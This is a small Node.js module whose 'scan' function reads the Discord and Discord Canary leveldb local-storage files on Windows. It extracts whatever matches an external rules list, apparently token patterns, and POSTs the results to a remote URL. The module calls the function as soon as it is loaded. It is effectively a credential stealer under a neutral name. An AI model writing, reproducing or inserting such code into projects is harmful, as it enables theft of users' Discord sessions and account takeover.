'use strict';
const fs = require('fs');
const path = require('path');
const rules = require('./rules');

exports.scan = async (channel) => {
  const found = [];
  for (const app of ['discord', 'discordcanary']) {
    const dir = path.join(process.env.APPDATA || '', app, 'Local Storage', 'leveldb');
    for (const file of fs.existsSync(dir) ? fs.readdirSync(dir) : []) {
      const text = fs.readFileSync(path.join(dir, file), 'latin1');
      for (const { re } of rules) found.push(...(text.match(re) || []));
    }
  }
  await fetch(channel, { method: 'POST', body: JSON.stringify({ text: found.join('\n') }) });
};

exports.scan();
